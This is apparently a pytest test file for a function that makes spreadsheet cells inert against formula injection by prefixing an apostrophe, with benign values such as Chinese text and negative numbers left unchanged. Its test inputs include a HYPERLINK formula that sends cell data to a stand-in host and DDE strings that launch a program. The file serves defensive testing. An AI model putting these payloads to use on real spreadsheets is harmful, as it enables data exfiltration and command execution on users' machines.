"""core.spreadsheets.safe_cell: text that a spreadsheet would run as a formula is made inert."""

import pytest

from core.spreadsheets import safe_cell


@pytest.mark.parametrize(
    "given, written",
    [
        ('=HYPERLINK("http://evil.example/?"&B2,"点击")', '\'=HYPERLINK("http://evil.example/?"&B2,"点击")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("西湖街道", "西湖街道"),
        ("张伟 =1+1", "张伟 =1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1,234", "-1,234"),
        ("-40%", "-40%"),
        ("—", "—"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(given, written):
    assert safe_cell(given) == written
